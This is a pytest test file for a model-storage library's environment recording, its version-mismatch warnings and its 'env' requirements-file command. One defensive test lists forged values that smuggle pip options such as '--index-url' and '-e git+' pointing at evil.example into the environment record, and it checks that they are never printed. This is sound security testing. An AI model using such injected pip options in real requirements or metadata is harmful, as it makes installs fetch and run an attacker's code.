"""What a version was saved with (issue #12): every distribution its pickle's classes come
from, an EnvironmentWarning at load when a major.minor differs, and `modelvault env`."""

from __future__ import annotations

import platform
import subprocess
import sys
import warnings
from fractions import Fraction

import numpy as np
import pytest

from modelvault import EnvironmentWarning, _environment


def saved_under(monkeypatch, python=None, **packages):
    """Make the next saves record other versions (None: a package not installed here)."""
    real = _environment.capture

    def other(imports):
        env = real(imports)
        recorded = {**env["packages"], **{k.replace("_", "-"): v for k, v in packages.items()}}
        return {**env, "python": python or env["python"], "packages": recorded}

    monkeypatch.setattr(_environment, "capture", other)
    return lambda: monkeypatch.setattr(_environment, "capture", real)


def test_no_warning_when_the_environment_matches(vault):
    vault.save("a", {"w": np.zeros(3)})
    vault.save("p", {"labels": {"x", "y"}})
    with warnings.catch_warnings():
        warnings.simplefilter("error", EnvironmentWarning)
        vault.load("a")
        vault.load("p")
        vault.load("a", keys="w")
        vault.load("a", lazy=True)["w"]


def test_a_minor_version_change_warns_naming_each_package(vault, monkeypatch):
    numpy_minor = ".".join(np.__version__.split(".")[:2])
    restore = saved_under(monkeypatch, python="3.9.1", numpy="1.21.0",
                          cloudpickle=None, some_gone_package="2.0")
    vault.save("p", {"labels": {"x", "y"}})
    vault.save("a", {"w": np.zeros(3)})
    restore()
    with pytest.warns(EnvironmentWarning) as caught:
        assert vault.load("p") == {"labels": {"x", "y"}}
    message = str(caught[0].message)
    assert f"numpy 1.21.0 (here {np.__version__})" in message
    assert f"Python 3.9.1 (here {platform.python_version()})" in message
    assert "some-gone-package 2.0 (here not installed)" in message
    assert "cloudpickle" not in message  # the same version as here
    assert caught[0].filename == __file__  # points at the caller's load
    assert issubclass(EnvironmentWarning, UserWarning)
    # Arrays are rebuilt by modelvault itself, the same under any numpy: no warning.
    with warnings.catch_warnings():
        warnings.simplefilter("error", EnvironmentWarning)
        for options in ({"keys": "w"}, {"lazy": True}, {}):
            vault.load("a", **options)
    assert numpy_minor in message


def test_a_patch_version_change_is_quiet(vault, monkeypatch):
    major, minor = np.__version__.split(".")[:2]
    python = platform.python_version_tuple()
    restore = saved_under(monkeypatch, python=f"{python[0]}.{python[1]}.0",
                          numpy=f"{major}.{minor}.999")
    vault.save("p", {"share": Fraction(1, 3)})
    restore()
    with warnings.catch_warnings():
        warnings.simplefilter("error", EnvironmentWarning)
        vault.load("p")


def test_a_models_bases_packages_are_recorded(vault):
    xgboost = pytest.importorskip("xgboost", reason="the XGBClassifier case needs xgboost")
    pytest.importorskip("sklearn", reason="and scikit-learn")
    X = np.random.default_rng(0).normal(size=(40, 3))
    model = xgboost.XGBClassifier(n_estimators=2).fit(X, (X[:, 0] > 0).astype(int))
    packages = vault.save("xgb", model).environment["packages"]
    assert "scikit-learn" in packages  # XGBClassifier is a scikit-learn estimator too
    assert any(name.startswith("xgboost") for name in packages)


def test_the_packages_of_stored_tensors_are_recorded(vault):
    torch = pytest.importorskip("torch")
    state = vault.save("sd", torch.nn.Linear(3, 2).state_dict()).environment["packages"]
    assert state.keys() == {"numpy", "torch"}  # what made its tensors; nothing is pickled
    assert vault.save("a", {"w": np.zeros(3)}).environment["packages"].keys() == {"numpy"}


def test_env_prints_a_requirements_file(vault, vault_path, monkeypatch):
    restore = saved_under(monkeypatch, python="3.10.4", numpy="1.26.4")
    vault.save("p", {"share": Fraction(1, 3)})  # imports a class: cloudpickle is recorded
    restore()
    vault.close()
    result = subprocess.run([sys.executable, "-m", "modelvault", "env", str(vault_path), "p"],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("# saved with Python 3.10.4")
    assert "numpy==1.26.4" in lines
    assert all("==" in line for line in lines[1:])
    assert any(line.startswith("cloudpickle==") for line in lines)


@pytest.mark.parametrize("forged", [
    {"python": "3.11\n--index-url https://evil.example/simple"},
    {"platform": "Linux\r-e git+https://evil.example/x.git#egg=x"},
    {"packages": {"numpy\n--trusted-host evil.example": "1.0"}},
    {"packages": {"numpy": "1.0\n-e git+https://evil.example/x.git#egg=x"}},
    {"packages": {"-e git+https://evil.example/x.git#egg=x": "1"}},
    {"packages": {"numpy": "1.0 ; python_version>'0' --hash=x"}},
    {"packages": {"numpy": 1}},
    {"packages": ["numpy"]},
])
def test_env_never_prints_a_forged_pip_option(vault, vault_path, monkeypatch, forged):
    """Hostile case: the environment record is the file's, and `pip install -r` follows
    options on any line. Saved through the writer (so signed and valid, as a forger
    with their own key would make it), printed never."""
    real = _environment.capture
    monkeypatch.setattr(_environment, "capture", lambda imports: {**real(imports), **forged})
    vault.save("p", {"share": Fraction(1, 3)})
    vault.close()
    result = subprocess.run([sys.executable, "-m", "modelvault", "env", str(vault_path), "p"],
                            capture_output=True, text=True)
    assert result.returncode == 1 and result.stdout == ""
    assert "not a package and its version" in result.stderr or "not one line" in \
        result.stderr or "not a mapping" in result.stderr
    assert "Traceback" not in result.stderr


def test_env_refuses_a_version_changed_after_saving(vault, vault_path):
    import sqlite3

    vault.save("p", {"share": Fraction(1, 3)})
    vault.close()
    with sqlite3.connect(vault_path) as db:
        db.execute("UPDATE environments SET json = "
                   "json_set(json, '$.packages.numpy', '0.1')")
    db.close()
    run = [sys.executable, "-m", "modelvault", "env", str(vault_path), "p"]
    refused = subprocess.run(run, capture_output=True, text=True)
    assert refused.returncode == 1 and "signature does not match" in refused.stderr
    forced = subprocess.run([*run, "--trust"], capture_output=True, text=True)
    assert forced.returncode == 0 and "numpy==0.1" in forced.stdout


def test_a_package_a_pickle_names_only_through_an_object_reduced_to_its_name(vault):
    """Some objects pickle as a global name (``__reduce__`` returns a string): numpy and
    SciPy ufuncs, torch dtypes. Their packages are what the stream imports too."""
    special = pytest.importorskip("scipy.special")
    packages = vault.save("p", {"link": special.expit}).environment["packages"]
    assert "scipy" in packages
    torch = pytest.importorskip("torch")
    assert "torch" in vault.save("q", {"dtype": torch.float32}).environment["packages"]
